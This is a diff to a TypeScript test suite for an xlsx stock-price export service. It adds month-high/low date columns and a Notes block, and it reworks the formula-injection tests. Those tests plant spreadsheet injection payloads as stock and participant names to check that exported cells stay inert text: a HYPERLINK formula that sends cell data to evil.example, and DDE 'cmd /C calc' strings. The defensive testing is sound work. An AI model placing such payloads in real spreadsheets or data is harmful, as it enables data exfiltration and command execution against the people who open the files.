@@ -46,6 +46,7 @@ const config = (over: Partial<ExporterConfig> = {}): ExporterConfig => ({
   ...(Value.Default(ExporterConfig, {}) as ExporterConfig),
   port: 0,
   maxConcurrentExports: 1,
+  exportWaitMs: 2000,
   ...over,
 });
 
@@ -63,6 +64,15 @@ afterAll(async () => {
 });
 
 const exportUrl = (q: Record<string, string>) => `${exporter.url}/export.xlsx?${new URLSearchParams(q)}`;
+
+/** A copy of 00700's gold prices under another code and name (for names a test needs). */
+async function copyStock(code: string, name: string): Promise<void> {
+  await db.pool.query(
+    `insert into gold.daily_prices select $1, trade_date, $2, currency, status, open, high, low, close,
+       prev_close, change_pct, volume, turnover, directed_volume from gold.daily_prices where code = '00700'`,
+    [code, name],
+  );
+}
 
 async function download(q: Record<string, string>): Promise<{ res: Response; bytes: Uint8Array }> {
   const res = await fetch(exportUrl(q));
@@ -129,37 +139,44 @@ describe('GET /export.xlsx, read back with exceljs', () => {
     expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 2 });
     const [header, ...rows] = sheetRows(ws, 2);
     expect(header).toEqual([...SHEET_COLUMNS.summary]);
-    expect(rows.map((r) => r[0])).toEqual([...CODES, '99999']);
+    expect(rows.slice(0, 4).map((r) => r[0])).toEqual([...CODES, '99999']);
     for (const [i, code] of CODES.entries()) {
       const { rows: g } = await db.pool.query(
-        `select p.close::float8 as close, p.change_pct::float8 as chg, p.trade_date,
+        `select p.close::float8 as close, p.change_pct::float8 as chg, p.trade_date::text as d,
                 (select pe::float8 from gold.stock_picker where code = $1 and as_of <= $3 order by as_of desc limit 1) as pe,
                 (select dividend_yield::float8 from gold.stock_picker where code = $1 and as_of <= $3 order by as_of desc limit 1) as dy,
-                m.high::float8 as mh, m.low::float8 as ml, r.dv_30d_trading::float8 as dv30,
+                r.dv_30d_trading::float8 as dv30,
                 (select top10_pct::float8 from gold.ccass_concentration where code = $1 and holding_date <= $3 order by holding_date desc limit 1) as top10
          from gold.daily_prices p
-         join gold.monthly_high_low m on m.code = p.code and m.month = date_trunc('month', p.trade_date)
          join gold.rolling_directed_volume r on r.code = p.code and r.trade_date = p.trade_date
          where p.code = $1 and p.trade_date between $2 and $3 and p.close is not null
          order by p.trade_date desc limit 1`,
         [code, FROM, TO],
       );
       const e = g[0];
-      expect(rows[i]?.slice(0, 10)).toEqual([
+      const mtd = (await goldPrices(db.pool, code, FROM, TO)).find((p) => p.date === e.d)!;
+      expect(rows[i]?.slice(0, 12)).toEqual([
         code,
         NAMES[code],
         e.close,
         e.chg,
         e.pe,
         e.dy,
-        e.mh,
-        e.ml,
+        mtd.monthHigh,
+        mtd.monthHighDate,
+        mtd.monthLow,
+        mtd.monthLowDate,
         e.dv30,
         e.top10,
       ]);
     }
     expect(rows[3]?.[1]).toBeNull();
-    expect(rows[3]?.[10]).toMatch(/unknown code/);
+    expect(rows[3]?.[12]).toMatch(/unknown code/);
+    // The Notes block under the table names the unknown code and the as-of date.
+    const notes = rows.slice(5).map((r) => r[0]);
+    expect(notes[0]).toBe('Notes');
+    expect(notes.join('\n')).toMatch(/as of 30\/10\/2026/);
+    expect(notes.join('\n')).toMatch(/Unknown codes \(no prices for them in Harbour, no sheets\): 99999\./);
     // Widths fit the header and the values.
     SHEET_COLUMNS.summary.forEach((h, i) => {
       expect(ws.getColumn(i + 1).width ?? 0).toBeGreaterThanOrEqual(h.length);
@@ -191,7 +208,9 @@ describe('GET /export.xlsx, read back with exceljs', () => {
           g.dv,
           g.dv30,
           g.monthHigh,
+          g.monthHighDate,
           g.monthLow,
+          g.monthLowDate,
         ]),
       );
       // Formats on a data row.
@@ -297,12 +316,14 @@ describe('LibreOffice headless', () => {
           shown(g.dv, 0),
           shown(g.dv30, 0),
           shown(g.monthHigh, 3, 2),
+          g.monthHighDate ? dmy(g.monthHighDate) : '',
           shown(g.monthLow, 3, 2),
+          g.monthLowDate ? dmy(g.monthLowDate) : '',
         ]);
       });
     }
     const summary = sheets.get('Summary')!;
-    expect(summary.slice(2).map((r) => r[0])).toEqual(['00700', '02319', '99999']);
+    expect(summary.slice(2, 5).map((r) => r[0])).toEqual(['00700', '02319', '99999']);
   }, 90_000);
 });
 
@@ -427,13 +448,9 @@ describe('JSON API for the page', () => {
 });
 
 describe('formula injection', () => {
-  it('escapes text cells that start with = + - @ (stock names, participants)', async () => {
+  it('writes text cells from data as inline strings shown as given, never formulas (= + - @)', async () => {
     const evilName = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
-    await db.pool.query(
-      `insert into gold.daily_prices select '08888', trade_date, $1, currency, status, open, high, low, close,
-         prev_close, change_pct, volume, turnover, directed_volume from gold.daily_prices where code = '00700'`,
-      [evilName],
-    );
+    await copyStock('08888', evilName);
     await db.pool.query(
       `insert into gold.ccass_changes select '08888', holding_date, prev_holding_date, participant_key, participant_id,
          case participant_key when 'C00019' then '+cmd|'' /C calc''!A0' when 'C00010' then '@SUM(1+1)*cmd|'' /C calc''!A0'
@@ -458,20 +475,42 @@ describe('formula injection', () => {
         row.eachCell((cell) => {
           expect(cell.formula).toBeUndefined();
           expect(cell.type).not.toBe(6); // ValueType.Formula
-          if (typeof cell.value === 'string') texts.push(cell.value);
+          const v = cellValue(cell);
+          if (typeof v === 'string' && cell.type !== 4 /* Date */) {
+            // An inline string (read back as rich text), not a plain/formula-result string (t="str").
+            expect(cell.type, v).toBe(8); // ValueType.RichText
+            texts.push(v);
+          }
         }),
       );
     }
-    expect(texts).toContain(`'${evilName}`);
-    expect(texts).toContain(`'+cmd|' /C calc'!A0`);
-    expect(texts).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
-    expect(texts).toContain(`'-2+3+cmd|' /C calc'!A0`);
-    for (const t of texts) expect(t).not.toMatch(/^[=+\-@]/);
+    // Shown exactly as given: no quote in front.
+    expect(texts).toContain(evilName);
+    expect(texts).toContain(`+cmd|' /C calc'!A0`);
+    expect(texts).toContain(`@SUM(1+1)*cmd|' /C calc'!A0`);
+    expect(texts).toContain(`-2+3+cmd|' /C calc'!A0`);
+    expect(texts.some((t) => t.startsWith("'"))).toBe(false);
     // The sheet name is cleaned of characters a sheet name cannot hold.
     expect(wb.worksheets[1]?.name).toBe(stockSheetName('08888', evilName));
     expect(wb.worksheets[1]?.name.length).toBeLessThanOrEqual(31);
-    expect(safeText('\u0001=1')).toBe("'=1");
+    expect(safeText('\u0001=1')).toBe('=1');
   });
+
+  it('a name with leading whitespace before = stays text in LibreOffice: shown as given, not evaluated', async (ctx) => {
+    await copyStock('08887', ' =1+1');
+    const soffice = await findSoffice();
+    if (!soffice) {
+      console.warn('skipping: soffice is not installed (apt-get install libreoffice-calc)');
+      ctx.skip();
+      return;
+    }
+    const { res, bytes } = await download({ codes: '08887', from: FROM, to: TO, sheets: 'summary' });
+    expect(res.status).toBe(200);
+    const sheets = await libreOfficeCsv(soffice, bytes, await testDir('lo-formula'));
+    const summary = sheets.get('Summary')!;
+    // Row 3 is the stock: its name exactly as given (leading space kept, no quote, not 2).
+    expect(summary[2]?.slice(0, 2)).toEqual(['08887', ' =1+1']);
+  }, 90_000);
 });
 
 describe('limits and safety', () => {
